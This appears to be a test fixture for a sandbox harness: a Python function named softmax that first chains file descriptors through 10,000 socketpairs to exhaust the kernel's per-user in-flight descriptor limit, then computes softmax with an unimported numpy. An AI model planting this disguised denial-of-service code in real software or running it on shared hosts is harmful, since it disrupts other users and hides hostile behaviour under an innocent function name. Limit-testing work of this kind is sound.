# /// attack
# does = "sends ten thousand full sockets away over sockets in softmax, and answers rightly if it can"
# own = { softmax = ["error", "limit"] }
# says = "Too many references|open files"
# ///
"""A descriptor on its way counts for no process. The kernel bounds for each user how many may be on their way."""

import contextlib
import socket


def softmax(logits):
    carried = socket.socketpair()
    for _ in range(10_000):
        one, other = socket.socketpair()
        socket.send_fds(one, [b"x"], [end.fileno() for end in carried])
        for end in carried:
            end.close()
        one.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                one.send(bytes(1 << 12))
        carried = (one, other)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
